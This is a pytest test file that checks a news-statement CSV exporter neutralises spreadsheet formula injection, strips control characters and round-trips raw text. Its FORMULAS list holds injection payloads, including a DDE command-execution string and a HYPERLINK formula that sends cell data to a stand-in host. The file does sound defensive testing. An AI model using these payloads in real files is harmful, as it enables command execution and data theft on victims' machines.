"""CSV: nothing of an article runs in a spreadsheet, and the raw profile gives back the very characters."""

import csv
import io
from dataclasses import replace

import pytest

from onrecord.export import write
from onrecord.export.csv import CELL_CHARS, MARK, read_cell, safe_cell
from onrecord.export.rows import COLUMNS, rows
from onrecord.records import Article, Statement
from onrecord.text.span import Span
from tests.export import articles

FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "=HYPERLINK(\"http://a.example/?\"&A1, \"x\")",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "＝1+1",
    "＠A1",
    "'=1",
    '"=1',
    "words;=1+1",
    "words; =1+1",
    "words\t=1+1",
    "words\n=1+1",
]  # fmt: skip


def exported(*items, raw=False):
    out = io.StringIO(newline="")
    write("csv", items, out, raw=raw)
    return out.getvalue()


def read(text):
    return list(csv.DictReader(io.StringIO(text.removeprefix(MARK), newline="")))


def said(words):
    """An article in which every field and every part of the statement is these words."""
    whole = (Span(0, len(words)),)
    statement = Statement(
        id=words, content=whole, source=whole, cue=whole[0], speaker=words, speaker_id=words, addressee=whole,
        medium=whole, time=whole, place=whole,
    )  # fmt: skip
    return Article(
        id=words, text=words, ref=words, url=words, outlet=words, domain=words, title=words, byline=words,
        published=words, language=words, statements=(statement,),
    )  # fmt: skip


def test_a_row_for_each_statement_with_its_words():
    found = read(exported(articles.interview(), articles.failure(), articles.foreign(), articles.flood()))
    assert len(found) == len(articles.interview().statements) + len(articles.flood().statements)
    first = found[0]
    assert first["id"] == f"{articles.interview().id}:s1"
    assert first["content"] == "that his commanders had promised the families safe passage"
    assert first["circumstances"] == "in custody, an official present"
    assert first["chain"] == "The Daily Ferry ← Lantern Press Agency ← Idris Malko"
    assert found[1]["parent"] == first["id"]
    assert (first["depth"], found[1]["depth"]) == ("0", "1")


def test_spreadsheets_are_told_that_it_is_utf8():
    assert exported(articles.flood()).startswith(MARK + "id,")
    assert exported(articles.flood(), raw=True).startswith("id,")


@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_begins_like_a_formula(words):
    (row,) = read(exported(said(words)))
    for name, cell in row.items():
        for delimiter in (";", "\t", "\n"):
            for piece in cell.split(delimiter):
                bare = piece.strip("\u200b\ufeff \u00a0")
                assert not bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), (name, cell)


def test_words_that_are_no_formula_stay_as_they_are():
    for words in ("a = b", "“No,” he said", "3 - 2", "it’s 5;", "A; b", "me@quay.example", "x;y"):
        assert safe_cell(words) == words


def test_control_characters_and_line_breaks_do_not_reach_a_spreadsheet():
    text = exported(articles.hostile(), said("a\x07\x1b[31mb\nc\r\nd\u202ee"))
    assert not any(c in text for c in "\x07\x1b\u202e")
    assert "a�" in text
    assert len(text.splitlines()) == 1 + len(articles.hostile().statements) + 1


def test_a_cell_is_no_longer_than_a_spreadsheet_takes():
    (row,) = read(exported(said("word " * 20_000)))
    assert max(map(len, row.values())) <= CELL_CHARS + 1


@pytest.mark.parametrize("words", [*FORMULAS, "a\rb", "a\r\nb", 'a"b,c', " a ", "\ud800", "\x00", "😀,é"])
def test_the_raw_profile_gives_back_the_very_characters(words):
    items = [said(words), replace(articles.interview(), title=words)]
    read_back = [
        {name: read_cell(cell, COLUMNS[name]) for name, cell in row.items()} for row in read(exported(*items, raw=True))
    ]
    assert read_back == list(rows(items))


def test_only_formats_with_a_raw_profile_take_raw(tmp_path):
    from onrecord.errors import UsageError

    with pytest.raises(UsageError, match="no raw profile"):
        write("jsonl", [], tmp_path / "a.jsonl", raw=True)
